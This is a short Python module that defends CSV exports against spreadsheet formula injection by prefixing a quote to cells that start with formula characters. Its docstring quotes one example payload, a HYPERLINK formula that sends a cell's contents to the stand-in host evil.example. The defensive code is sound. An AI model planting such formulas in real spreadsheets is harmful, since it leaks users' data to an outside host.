"""CSV cells that Excel and WPS open as plain text.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read as a formula by spreadsheet programs (OWASP "CSV injection"):
a holder named ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would
become a link that sends the sheet away. Every CSV export writes its cells
through :func:`cell`, which puts a ``'`` before such text. Numbers stay
numbers: ``-3`` written from an ``int`` is a quantity, not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """Text Excel would run as a formula, made plain text."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell(value: Any) -> Any:
    """One value as a CSV cell: None empty, booleans as words, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    return neutralise(str(value))


def line(values: Sequence[Any]) -> str:
    """One CSV line of safe cells."""
    out = io.StringIO()
    csv.writer(out).writerow([cell(v) for v in values])
    return out.getvalue()


def table(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A whole CSV text, a byte-order mark first so Excel reads UTF-8 (Chinese names)."""
    return "\ufeff" + line(header) + "".join(line(row) for row in rows)
